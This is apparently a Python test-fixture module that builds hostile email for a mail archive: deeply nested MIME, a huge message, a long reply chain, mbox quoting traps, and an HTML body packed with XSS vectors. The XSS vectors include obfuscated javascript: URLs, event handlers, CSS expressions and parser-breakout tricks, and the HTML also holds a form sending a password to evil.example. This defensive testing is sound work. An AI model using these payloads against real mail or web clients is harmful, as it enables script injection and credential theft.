"""Message bodies and shapes that attack the display, the threader and the readers of mail:
HTML with every way to run script, MIME nested over a thousand deep, a several-MB message,
a reply chain deeper than a recursive walk survives, and lines that trap mbox quoting."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from ..helpers import make_message
from .attachments import script


def hostile_html(beacon: str) -> str:
    """An HTML page using every common way of running script or leaving the page."""
    js = script(beacon)
    return (
        '<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'
        f"<style>body {{ width: expression({js}); background: url(javascript:{js}) }}</style>"
        f'<script>{js}</script><script src="https://evil.example/x.js"></script></head>'
        f'<body onload="{js}"><p onclick="{js}" style="x:expression({js})">htmlpayload Hello <b>world</b></p>'
        f'<a href="javascript:{js}">js</a> <a href="JaVaScRiPt&#58;{js}">entity</a> '
        f'<a href=" jav&#x09;ascript:{js}">tab</a> <a href="data:text/html,&lt;script&gt;{js}&lt;/script&gt;">data</a>'
        f'<img src="x" onerror="{js}"><svg onload="{js}"><script>{js}</script></svg>'
        f'<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe><object data="x.swf"></object>'
        f'<form action="https://evil.example/steal"><input name="password" onfocus="{js}" autofocus>'
        f'<button formaction="javascript:{js}">Go</button></form>'
        f'<math><mtext><img src=x onerror="{js}"></mtext></math>'
        f"<noscript><p title=\"</noscript><img src=x onerror='{js}'>\"></p></noscript>"
        f"<!-- <script>{js}</script> --><div></div></div></div></body></html>\n"
    )


def html_messages(beacon: str) -> list[bytes]:
    """An HTML-only message and a multipart/alternative one whose HTML part is hostile
    (Message-IDs ``<html-N@example.org>``, body word ``htmlpayload``)."""
    date = datetime(2024, 6, 1, 9, 0, tzinfo=UTC)
    only = make_message(
        "html only",
        hostile_html(beacon),
        message_id="<html-0@example.org>",
        date=date,
        extra={"MIME-Version": "1.0", "Content-Type": "text/html; charset=utf-8"},
    )
    alternative = make_message(
        "html alternative",
        "--alt\nContent-Type: text/plain; charset=utf-8\n\nhtmlpayload plain\n"
        f"--alt\nContent-Type: text/html; charset=utf-8\n\n{hostile_html(beacon)}--alt--\n",
        message_id="<html-1@example.org>",
        date=date + timedelta(hours=1),
        extra={"MIME-Version": "1.0", "Content-Type": 'multipart/alternative; boundary="alt"'},
    )
    return [only, alternative]


def deep_mime_message(depth: int) -> bytes:
    """multipart/mixed nested ``depth`` deep around one text part holding ``mimebottom``."""
    opening = "".join(f'--b{n}\nContent-Type: multipart/mixed; boundary="b{n + 1}"\n\n' for n in range(depth))
    closing = "".join(f"--b{n}--\n" for n in reversed(range(depth + 1)))
    body = f"{opening}--b{depth}\nContent-Type: text/plain\n\nmimebottom at depth {depth}\n{closing}"
    return make_message(
        "deep MIME",
        body,
        message_id="<deep-mime@example.org>",
        date=datetime(2024, 6, 2, 9, 0, tzinfo=UTC),
        extra={"MIME-Version": "1.0", "Content-Type": 'multipart/mixed; boundary="b0"'},
    )


def big_message(megabytes: int) -> bytes:
    """One message of about ``megabytes`` MB of plain text lines (word ``bigpayload`` first)."""
    line = "bigpayload " + "lorem ipsum dolor sit amet " * 3 + "\n"
    return make_message(
        "big message",
        line * (megabytes * (1 << 20) // len(line)),
        message_id="<big@example.org>",
        date=datetime(2024, 6, 3, 9, 0, tzinfo=UTC),
    )


def reply_chain(depth: int) -> list[bytes]:
    """``depth`` messages each answering the one before (In-Reply-To only), word ``chainlink``."""
    # Before the other payloads, so that the feeds' latest entries are theirs.
    start = datetime(2024, 1, 1, tzinfo=UTC)
    return [
        make_message(
            "Re: chain" if n else "chain",
            f"chainlink {n}\n",
            message_id=f"<chain-{n}@example.org>",
            date=start + timedelta(seconds=n),
            extra={"In-Reply-To": f"<chain-{n - 1}@example.org>"} if n else None,
        )
        for n in range(depth)
    ]


QUOTING_TRAP = (
    "quotingtrap\n"
    "From here on a line starts with From.\n"
    ">From there, once quoted.\n"
    ">>From everywhere, twice quoted.\n"
    "> From not quoted at all\n"
    "From what I can see, 1 Jul 1999 06:06:56 -0400\n"
    "From someone@example.org Thu Jul  1 06:06:56 1999\n"
    "and a body line, not a header, after a separator-like line.\n"
    "\n"
    "From ann@example.org Thu, 1 Jul 1999 06:06:56 -0400 (EDT)\n"
    "\n"
)
"""Body lines that an mbox writer must quote and a reader must unquote exactly (mboxrd), or
that a reader must not take for separators (mboxo, early Pipermail)."""


def quoting_trap_message(message_id: str) -> bytes:
    return make_message("From quoting", QUOTING_TRAP, message_id=message_id, date=datetime(2024, 6, 4, tzinfo=UTC))
